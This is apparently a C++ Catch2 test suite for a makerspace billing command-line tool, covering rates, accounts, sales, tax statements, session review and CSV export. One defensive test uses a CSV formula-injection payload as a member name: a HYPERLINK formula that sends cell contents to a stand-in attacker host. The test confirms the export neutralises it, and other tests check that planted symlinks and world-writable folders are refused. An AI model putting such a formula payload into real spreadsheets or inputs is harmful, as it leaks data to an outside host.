// Runs the real labgatectl billing commands (rates, accounts, prices, sell, session review)
// against a temporary database: good input, every typo (exit 2, nothing written) and refusals.
#include <sqlite3.h>
#include <sys/stat.h>

#include <algorithm>
#include <catch2/catch.hpp>
#include <chrono>
#include <fstream>
#include <iterator>
#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "ctl_harness.hpp"
#include "db_snapshot.hpp"
#include "process.hpp"

namespace {

using labgate::test::Ctl;
using labgate::test::require_ok;
using labgate::test::require_refused;
using labgate::test::Run;
using labgate::testing::TempDir;
using json = nlohmann::json;

void seed(const Ctl& ctl) {
  require_ok(ctl({"--create", "plans", "add", "--code", "FULL", "--name", "Full time", "--windows",
                  "mon-fri 08:30-17:15"}));
  require_ok(ctl({"members", "add", "--no", "M0001", "--name", "Hanako Yamada", "--plan", "FULL"}));
  require_ok(ctl({"members", "approve", "--no", "M0001"}));
  require_ok(
      ctl({"machines", "add", "--id", "laser1", "--name", "Laser cutter 1", "--busy-input"}));
}

json audit_actions(const Ctl& ctl) {
  const auto r = ctl({"audit", "list", "--json"});
  require_ok(r);
  json actions = json::array();
  for (const auto& row : json::parse(r.out)) actions.push_back(row["action"]);
  return actions;
}

}  // namespace

TEST_CASE("labgatectl rates: set, list, supersede, audit", "[billing_ctl]") {
  Ctl ctl;
  seed(ctl);
  const auto set = ctl({"rates",     "set",         "--machine",   "laser1",       "--unit",
                        "15m",       "--price",     "300",         "--idle-price", "100",
                        "--minimum", "500",         "--grace",     "2m",           "--daily-cap",
                        "3000",      "--plan-term", "FULL:10%:60", "--note",       "opening prices",
                        "--json"});
  require_ok(set);
  const auto r = json::parse(set.out);
  CHECK(r["target"] == "laser1");
  CHECK(r["unit_seconds"] == 900);
  CHECK(r["price_per_unit"] == 300);
  CHECK(r["idle_price_per_unit"] == 100);
  CHECK(r["minimum_charge"] == 500);
  CHECK(r["grace_seconds"] == 120);
  CHECK(r["daily_cap"] == 3000);
  CHECK(r["effective_until"].is_null());
  REQUIRE(r["plan_terms"].size() == 1);
  CHECK(r["plan_terms"][0]["plan"] == "FULL");
  CHECK(r["plan_terms"][0]["discount_percent"] == 10);
  CHECK(r["plan_terms"][0]["included_minutes"] == 60);
  CHECK(r["created_by"] == labgate::test::os_user());

  require_ok(ctl(
      {"rates", "set", "--coworking", "--unit", "1h", "--price", "200", "--daily-cap", "1000"}));
  // A change from a future date ends the rate in force there.
  const auto next = ctl({"rates", "set", "--machine", "laser1", "--unit", "1h30m", "--price", "900",
                         "--from", "2099-04-01"});
  require_ok(next);
  CHECK_THAT(next.out, Catch::Contains("laser1 from 2099-04-01 00:00:00"));
  CHECK_THAT(next.out, Catch::Contains("900 per 1h30m"));

  const auto list = json::parse(ctl({"rates", "list", "--json"}).out);
  REQUIRE(list.size() == 3);
  CHECK(list[0]["target"] == "coworking");
  CHECK(list[1]["target"] == "laser1");
  CHECK(list[1]["effective_until"] == "2099-03-31T15:00:00.000Z");  // Tokyo midnight in UTC
  CHECK(list[2]["unit_seconds"] == 5400);
  CHECK(json::parse(ctl({"rates", "list", "--target", "coworking", "--json"}).out).size() == 1);
  const auto text = ctl({"rates", "list", "--target", "laser1"});
  require_ok(text);
  CHECK_THAT(text.out, Catch::Contains("FULL:10%:60m"));
  CHECK_THAT(text.out, Catch::Contains("2099-04-01 00:00:00"));

  const auto actions = audit_actions(ctl);
  CHECK(std::count(actions.begin(), actions.end(), "rate_set") == 3);
  require_ok(ctl({"audit", "verify"}));

  SECTION("refusals and typos write nothing") {
    const std::vector<std::string> base = {"rates",  "set", "--machine", "laser1",
                                           "--unit", "15m", "--price",   "300"};
    const auto with = [&](std::vector<std::string> extra) {
      auto args = base;
      args.insert(args.end(), extra.begin(), extra.end());
      return args;
    };
    auto unit_typo = base;
    unit_typo[5] = "15x";
    require_refused(ctl, unit_typo, 2, "bad --unit '15x'");
    auto unit_zero = base;
    unit_zero[5] = "0";
    require_refused(ctl, unit_zero, 2, "--unit");
    auto price_frac = base;
    price_frac[7] = "3.5";
    require_refused(ctl, price_frac, 2, "bad --price '3.5'");
    require_refused(ctl, with({"--grace", "2y"}), 2, "bad --grace '2y'");
    require_refused(ctl, with({"--grace", "15"}), 2, "bad --grace '15'");
    require_refused(ctl, with({"--daily-cap", "abc"}), 2, "bad --daily-cap 'abc'");
    require_refused(ctl, with({"--minimum", "-5"}), 2, "--minimum");
    require_refused(ctl, with({"--from", "2099-13-01"}), 2, "bad --from '2099-13-01'");
    require_refused(ctl, with({"--plan-term", "FULL:10"}), 2, "bad --plan-term 'FULL:10'");
    require_refused(ctl, with({"--plan-term", "FULL:x%:60"}), 2, "bad --plan-term");
    require_refused(ctl, {"rates", "set", "--unit", "15m", "--price", "300"}, 2,
                    "--machine M, --coworking, --room R or --locker L");
    require_refused(ctl, with({"--coworking"}), 2, "excludes");
    require_refused(ctl, with({"--minimum", "1000", "--daily-cap", "800"}), 2,
                    "minimum charge 1000 exceeds the daily cap 800");
    require_refused(ctl, with({"--grace", "24h"}), 2, "shorter than 24 h");
    require_refused(ctl, with({"--plan-term", "FULL:120%:0"}), 2, "outside 0..100");
    require_refused(ctl, with({"--plan-term", "GOLD:10%:0"}), 1, "unknown plan 'GOLD'");
    require_refused(ctl, with({"--from", "2020-01-01"}), 1, "starts in the past");
    require_refused(ctl, with({"--from", "2099-03-01"}), 1, "overlaps rate");
    auto lathe = base;
    lathe[3] = "lathe";
    require_refused(ctl, lathe, 1, "unknown machine 'lathe'");
    require_refused(
        ctl,
        {"rates", "set", "--coworking", "--unit", "1h", "--price", "200", "--idle-price", "50"}, 2,
        "not coworking");
  }
}

TEST_CASE("labgatectl accounts: top-up, adjust, credit limit, show", "[billing_ctl]") {
  Ctl ctl;
  seed(ctl);
  require_ok(ctl({"accounts", "topup", "--member", "M0001", "--amount", "5000", "--note",
                  "cash, receipt 17"}));
  const auto adj = ctl({"accounts", "adjust", "--member", "M0001", "--amount", "-500", "--reason",
                        "refund of a failed cut"});
  require_ok(adj);
  CHECK_THAT(adj.out, Catch::Contains("-500"));
  require_ok(
      ctl({"accounts", "adjust", "--member", "M0001", "--amount=+200", "--reason", "goodwill"}));
  require_ok(ctl({"accounts", "credit-limit", "--member", "M0001", "--amount", "10000"}));
  const auto show = ctl({"accounts", "show", "--member", "M0001", "--json"});
  require_ok(show);
  const auto a = json::parse(show.out);
  CHECK(a["balance"] == 4700);
  CHECK(a["credit_limit"] == 10000);
  CHECK(a["available"] == 14700);
  REQUIRE(a["entries"].size() == 3);
  CHECK(a["entries"][0]["kind"] == "topup");
  CHECK(a["entries"][0]["reference"] == "cash, receipt 17");
  CHECK(a["entries"][1]["amount"] == -500);
  CHECK(a["entries"][2]["actor"] == labgate::test::os_user());
  const auto text = ctl({"accounts", "show", "--member", "M0001"});
  CHECK_THAT(text.out, Catch::Contains("balance 4700 yen, credit limit 10000 yen"));

  require_refused(ctl, {"accounts", "topup", "--member", "M0001", "--amount", "0"}, 2, "positive");
  require_refused(ctl, {"accounts", "topup", "--member", "M0001", "--amount", "-5"}, 2,
                  "bad --amount");
  require_refused(ctl, {"accounts", "topup", "--member", "M0001", "--amount", "5k"}, 2,
                  "bad --amount '5k'");
  require_refused(ctl, {"accounts", "topup", "--member", "M9999", "--amount", "100"}, 1,
                  "unknown member 'M9999'");
  require_refused(ctl,
                  {"accounts", "adjust", "--member", "M0001", "--amount", "0", "--reason", "x"}, 2,
                  "changes nothing");
  require_refused(ctl, {"accounts", "credit-limit", "--member", "M0001", "--amount", "-1"}, 2,
                  "bad --amount");
  const auto actions = audit_actions(ctl);
  CHECK(std::count(actions.begin(), actions.end(), "account.topup") == 1);
  CHECK(std::count(actions.begin(), actions.end(), "account.adjust") == 2);
  CHECK(std::count(actions.begin(), actions.end(), "account.credit_limit") == 1);
  require_ok(ctl({"audit", "verify"}));
}

TEST_CASE("labgatectl prices and sell", "[billing_ctl]") {
  Ctl ctl;
  seed(ctl);
  require_ok(ctl({"prices", "set", "--code", "ACR3", "--name", "Acrylic 3 mm A4", "--price", "450",
                  "--unit", "sheet"}));
  require_ok(ctl(
      {"prices", "set", "--code", "DAY", "--name", "Day pass", "--price", "1000", "--day-pass"}));
  const auto sold = ctl({"sell", "--member", "M0001", "--item", "ACR3", "--qty", "3", "--note",
                         "shop sign", "--json"});
  require_ok(sold);
  const auto s = json::parse(sold.out);
  CHECK(s["unit_price"] == 450);
  CHECK(s["amount"] == 1350);
  CHECK(s["quantity"] == 3);
  // A new price applies to later sales only.
  require_ok(ctl({"prices", "set", "--code", "ACR3", "--name", "Acrylic 3 mm A4", "--price", "480",
                  "--unit", "sheet"}));
  const auto again = ctl({"sell", "--member", "M0001", "--item", "ACR3"});
  require_ok(again);
  CHECK_THAT(again.out, Catch::Contains("sold 1 x ACR3 to M0001 at 480 yen = 480 yen"));
  const auto list = json::parse(ctl({"prices", "list", "--json"}).out);
  REQUIRE(list.size() == 2);
  CHECK(list[0]["price"] == 480);
  CHECK(list[1]["day_pass"] == true);

  require_refused(ctl, {"sell", "--member", "M0001", "--item", "ACR3", "--qty", "0"}, 2,
                  "bad --qty '0'");
  require_refused(ctl, {"sell", "--member", "M0001", "--item", "ACR3", "--qty", "two"}, 2,
                  "bad --qty 'two'");
  require_refused(ctl, {"sell", "--member", "M0001", "--item", "GOLD"}, 1,
                  "unknown price-list item 'GOLD'");
  require_refused(ctl, {"sell", "--member", "M9999", "--item", "ACR3"}, 1, "unknown member");
  require_refused(ctl, {"prices", "set", "--code", "X", "--name", "x", "--price", "1.5"}, 2,
                  "bad --price '1.5'");
  require_ok(ctl({"prices", "deactivate", "--code", "ACR3"}));
  require_refused(ctl, {"prices", "deactivate", "--code", "ACR3"}, 1, "already inactive");
  require_refused(ctl, {"sell", "--member", "M0001", "--item", "ACR3"}, 1, "no longer sold");
  CHECK(json::parse(ctl({"prices", "list", "--json"}).out).size() == 1);
  CHECK(json::parse(ctl({"prices", "list", "--all", "--json"}).out).size() == 2);
  const auto text = ctl({"prices", "list", "--all"});
  CHECK_THAT(text.out, Catch::Contains("ACR3"));
  CHECK_THAT(text.out, Catch::Contains("no"));
  const auto actions = audit_actions(ctl);
  CHECK(std::count(actions.begin(), actions.end(), "sale") == 2);
  CHECK(std::count(actions.begin(), actions.end(), "price.deactivate") == 1);
  require_ok(ctl({"audit", "verify"}));
}

TEST_CASE("labgatectl prices --tax and statements with the config's [billing] tax",
          "[billing_ctl][tax]") {
  Ctl ctl;
  seed(ctl);
  require_ok(ctl({"prices", "set", "--code", "TEA", "--name", "Bottled tea", "--price", "150",
                  "--tax", "reduced"}));
  // A price change without --tax keeps the item's class.
  const auto changed =
      ctl({"prices", "set", "--code", "TEA", "--name", "Bottled tea", "--price", "162"});
  require_ok(changed);
  CHECK_THAT(changed.out, Catch::Contains("162 yen per pcs, tax reduced"));
  require_ok(ctl({"prices", "set", "--code", "ACR3", "--name", "Acrylic", "--price", "1000"}));
  require_refused(
      ctl, {"prices", "set", "--code", "X", "--name", "x", "--price", "1", "--tax", "luxury"}, 2,
      "--tax");
  const auto list = json::parse(ctl({"prices", "list", "--json"}).out);
  REQUIRE(list.size() == 2);
  CHECK(list[0]["tax_class"] == "standard");  // ACR3
  CHECK(list[1]["tax_class"] == "reduced");   // TEA
  // Sold on a fixed day, so the month is known whatever today is.
  const std::vector<std::string> on_day{"--simulated-clock", "2026-11-20 10:00"};
  auto at = [&](std::vector<std::string> args) {
    args.insert(args.begin(), on_day.begin(), on_day.end());
    return ctl(args);
  };
  CHECK(json::parse(at({"sell", "--member", "M0001", "--item", "TEA", "--qty", "2", "--json"})
                        .out)["tax_class"] == "reduced");
  require_ok(at({"sell", "--member", "M0001", "--item", "ACR3", "--qty", "2"}));
  const std::string month = "2026-11";

  // The config's [billing]: exclusive prices, a registered issuer. 2 x 162 = 324 reduced:
  // 324 x 8 / 100 = 25.92 -> 25; 2 x 1000 = 2000 standard: 200. Charged 2324 + 225 = 2549.
  const auto config = ctl.dir().path() / "site.toml";
  std::ofstream(config) << "[billing]\nprices = \"exclusive\"\nissuer_name = \"Lab\"\n"
                           "registration_number = \"T1234567890123\"\n";
  const auto shown = at({"--config", config.string(), "statements", "show", "--member", "M0001",
                         "--month", month, "--format", "json"});
  require_ok(shown);
  const auto st = json::parse(shown.out);
  REQUIRE(st["taxes"].size() == 2);
  CHECK(
      st["taxes"][0] ==
      json{{"classes", "reduced"}, {"percent", 8}, {"taxable", 324}, {"tax", 25}, {"total", 349}});
  CHECK(st["taxes"][1] == json{{"classes", "standard"},
                               {"percent", 10},
                               {"taxable", 2000},
                               {"tax", 200},
                               {"total", 2200}});
  CHECK(st["total"] == 2549);
  CHECK(st["qualified_invoice"] == true);
  CHECK(st["issuer"]["registration_number"] == "T1234567890123");
  const auto text = ctl(
      {"--config", config.string(), "statements", "show", "--member", "M0001", "--month", month});
  CHECK_THAT(text.out, Catch::Contains("8% (reduced): 324 yen before tax, consumption tax 25 yen"));
  CHECK_THAT(text.out, Catch::Contains("qualified invoice (適格請求書), registration number "
                                       "T1234567890123"));
  // Without --config: the built-in defaults, inclusive, and no registration number.
  const auto plain = json::parse(
      at({"statements", "show", "--member", "M0001", "--month", month, "--format", "json"}).out);
  CHECK(plain["total"] == 2324);
  CHECK(plain["qualified_invoice"] == false);
  // A registration number in the wrong form is refused with the key and the reason.
  std::ofstream(config, std::ios::trunc) << "[billing]\nregistration_number = \"T12345\"\n";
  require_refused(
      ctl,
      {"--config", config.string(), "statements", "show", "--member", "M0001", "--month", month}, 2,
      "billing.registration_number: 'T12345' must be T followed by 13 digits");
}

TEST_CASE("labgatectl sessions held and review", "[billing_ctl]") {
  Ctl ctl;
  seed(ctl);
  // 2026-01-05 10:00 Tokyo; sessions of 25 h (held), 24 h (not held) and 30 h coworking (held).
  const std::int64_t t0 = 1767574800000;
  const std::int64_t h = 3600000;
  ctl.exec(
      "INSERT INTO sessions (id, uuid, member_id, machine_id, kind, started_at_ms, ended_at_ms, "
      "end_reason, measured_seconds) VALUES "
      "(1, 'a', 1, 'laser1', 'machine', " +
      std::to_string(t0) + ", " + std::to_string(t0 + 25 * h) + ", 'max_duration', 90000), " +
      "(2, 'b', 1, 'laser1', 'machine', " + std::to_string(t0 + 26 * h) + ", " +
      std::to_string(t0 + 50 * h) + ", 'tap_off', 86400), " + "(3, 'c', 1, NULL, 'coworking', " +
      std::to_string(t0) + ", " + std::to_string(t0 + 30 * h) + ", 'closing_time', 108000)");
  const auto held = ctl({"sessions", "held", "--json"});
  require_ok(held);
  const auto hj = json::parse(held.out);
  REQUIRE(hj.size() == 2);
  CHECK(hj[0]["id"] == 1);
  CHECK(hj[0]["seconds"] == 90000);
  CHECK(hj[0]["member_no"] == "M0001");
  CHECK(hj[1]["id"] == 3);
  const auto table = ctl({"sessions", "held"});
  CHECK_THAT(table.out, Catch::Contains("25h"));
  CHECK_THAT(table.out, Catch::Contains("2026-01-05 10:00:00"));

  require_refused(ctl, {"sessions", "review", "--id", "1"}, 2, "--bill DURATION or --waive");
  require_refused(ctl, {"sessions", "review", "--id", "1", "--bill", "3 hours"}, 2,
                  "bad --bill '3 hours'");
  require_refused(ctl, {"sessions", "review", "--id", "1", "--bill", "3h", "--waive"}, 2,
                  "excludes");
  require_refused(ctl, {"sessions", "review", "--id", "x1", "--waive"}, 2, "bad --id");
  require_refused(ctl, {"sessions", "review", "--id", "1", "--bill", "26h"}, 2, "lasted only");
  require_refused(ctl, {"sessions", "review", "--id", "2", "--waive"}, 1,
                  "only sessions over 24 h");
  require_refused(ctl, {"sessions", "review", "--id", "9", "--waive"}, 1, "unknown session 9");

  const auto billed = ctl(
      {"sessions", "review", "--id", "1", "--bill", "3h", "--note", "left the card on the reader"});
  require_ok(billed);
  CHECK_THAT(billed.out,
             Catch::Contains("session 1 bills 3h (reviewed by " + labgate::test::os_user() + ")"));
  require_refused(ctl, {"sessions", "review", "--id", "1", "--waive"}, 1, "already reviewed");
  const auto waived = ctl({"sessions", "review", "--id", "3", "--waive", "--json"});
  require_ok(waived);
  CHECK(json::parse(waived.out)["waived"] == true);
  CHECK(json::parse(ctl({"sessions", "held", "--json"}).out).empty());

  // A month whose statement is issued is frozen: its held sessions can no longer be reviewed.
  ctl.exec(
      "INSERT INTO sessions (id, uuid, member_id, machine_id, kind, started_at_ms, ended_at_ms) "
      "VALUES (4, 'd', 1, 'laser1', 'machine', " +
      std::to_string(t0 + 60 * h) + ", " + std::to_string(t0 + 90 * h) + ")");
  ctl.exec(
      "INSERT INTO statement_bodies (sha256, body) VALUES ('', '{}'); "
      "INSERT INTO statements (member_id, month, issued_at_ms, issued_by, total, sha256) "
      "VALUES (1, '2026-01', 0, 'manager', 0, '')");
  require_refused(ctl, {"sessions", "review", "--id", "4", "--bill", "1h"}, 1,
                  "2026-01 statement of M0001 is already issued");
  const auto actions = audit_actions(ctl);
  CHECK(std::count(actions.begin(), actions.end(), "session.review") == 2);
  require_ok(ctl({"audit", "verify"}));
}

TEST_CASE("labgatectl statements export: text that would start a formula reaches Excel as text",
          "[billing_ctl][csv]") {
  Ctl ctl;
  seed(ctl);
  // A member name that Excel would run as a formula (CSV injection), and an item name that
  // starts with '+'. Both are staff input, so both are text cells.
  const std::string evil = R"(=HYPERLINK("http://evil.example/?"&A1,"click"))";
  require_ok(ctl({"members", "add", "--no", "M0002", "--name", evil, "--plan", "FULL"}));
  require_ok(ctl({"members", "approve", "--no", "M0002"}));
  require_ok(ctl({"prices", "set", "--code", "PLUS", "--name", "+Acrylic 5 mm", "--price", "700"}));
  require_ok(ctl({"sell", "--member", "M0002", "--item", "PLUS", "--qty", "2"}));
  ctl.exec("UPDATE sales SET at_ms = 1794279600000");  // 2026-11-10 12:00 in Tokyo

  const auto out = ctl.dir().path() / "statements";
  require_ok(ctl({"statements", "export", "--month", "2026-11", "--out", out.string()}));
  const std::string cell = R"csv("'=HYPERLINK(""http://evil.example/?""&A1,""click"")")csv";
  const auto statement = labgate::testing::read_file(out / "statement-2026-11-M0002.csv");
  INFO(statement);
  CHECK(statement.rfind("\xEF\xBB\xBFmember_no,name,month,plan,time_zone,currency\r\nM0002," +
                            cell + ",2026-11,",
                        0) == 0);
  CHECK(statement.find(",'+Acrylic 5 mm,2,") != std::string::npos);
  // Amounts are number cells: the sale's 1400 yen is written as a bare number.
  CHECK(statement.find("\r\ntotal,,1400\r\n") != std::string::npos);
  CHECK(statement.find(",=HYPERLINK") == std::string::npos);
  const auto summary = labgate::testing::read_file(out / "summary-2026-11.csv");
  INFO(summary);
  CHECK(summary.find("\r\nM0002," + cell + ",2026-11,") != std::string::npos);
  // ... then the day passes (0) and the tax in the 1400 yen: floor(1400 * 10 / 110) = 127.
  CHECK(summary.find(",1400,0,0,,0,127\r\n") != std::string::npos);
  // The JSON is not for spreadsheets: the name is kept exactly as entered.
  const auto j = json::parse(labgate::testing::read_file(out / "statement-2026-11-M0002.json"));
  CHECK(j["name"] == evil);
  // `statements show --format csv` prints the same bytes as the exported file.
  const auto shown =
      ctl({"statements", "show", "--member", "M0002", "--month", "2026-11", "--format", "csv"});
  require_ok(shown);
  CHECK(shown.out == statement);
}

TEST_CASE("labgatectl statements export: writes only where asked, one file per member",
          "[billing_ctl][export]") {
  Ctl ctl;
  seed(ctl);
  require_ok(ctl({"prices", "set", "--code", "ACR3", "--name", "Acrylic 3 mm", "--price", "450"}));
  require_ok(ctl({"sell", "--member", "M0001", "--item", "ACR3", "--qty", "1"}));
  // Two member numbers that the old file naming mapped to one name: one statement was lost.
  for (const char* no : {"M'1", "M_1"}) {
    require_ok(ctl({"members", "add", "--no", no, "--name", "Twin", "--plan", "FULL"}));
    require_ok(ctl({"members", "approve", "--no", no}));
    require_ok(ctl({"sell", "--member", no, "--item", "ACR3", "--qty", "1"}));
  }
  ctl.exec("UPDATE sales SET at_ms = 1794279600000");  // 2026-11-10 12:00 in Tokyo
  const auto out = ctl.dir().path() / "statements";
  require_ok(ctl({"statements", "export", "--month", "2026-11", "--out", out.string()}));
  CHECK(std::filesystem::exists(out / "statement-2026-11-M_271.csv"));
  CHECK(std::filesystem::exists(out / "statement-2026-11-M_5f1.csv"));
  CHECK(std::filesystem::exists(out / "statement-2026-11-M0001.csv"));
  struct stat st {};
  REQUIRE(::stat((out / "statement-2026-11-M0001.csv").c_str(), &st) == 0);
  CHECK((st.st_mode & 0777) == 0640);

  // A symlink planted at a statement's name is refused, and its target is untouched.
  const auto planted = ctl.dir().path() / "planted";
  std::filesystem::create_directory(planted);
  const auto victim = ctl.dir().path() / "victim.txt";
  std::ofstream(victim) << "precious";
  std::filesystem::create_symlink(victim, planted / "statement-2026-11-M0001.csv");
  const auto refused =
      ctl({"statements", "export", "--month", "2026-11", "--out", planted.string()});
  CHECK(refused.code != 0);
  CHECK(refused.err.find("symbolic link") != std::string::npos);
  CHECK(labgate::testing::read_file(victim) == "precious");

  // A folder every user may write to is refused.
  const auto open_dir = ctl.dir().path() / "open";
  std::filesystem::create_directory(open_dir);
  ::chmod(open_dir.c_str(), 0777);
  const auto open_refused =
      ctl({"statements", "export", "--month", "2026-11", "--out", open_dir.string()});
  CHECK(open_refused.code != 0);
  CHECK(open_refused.err.find("other users") != std::string::npos);
  CHECK(std::filesystem::is_empty(open_dir));
}
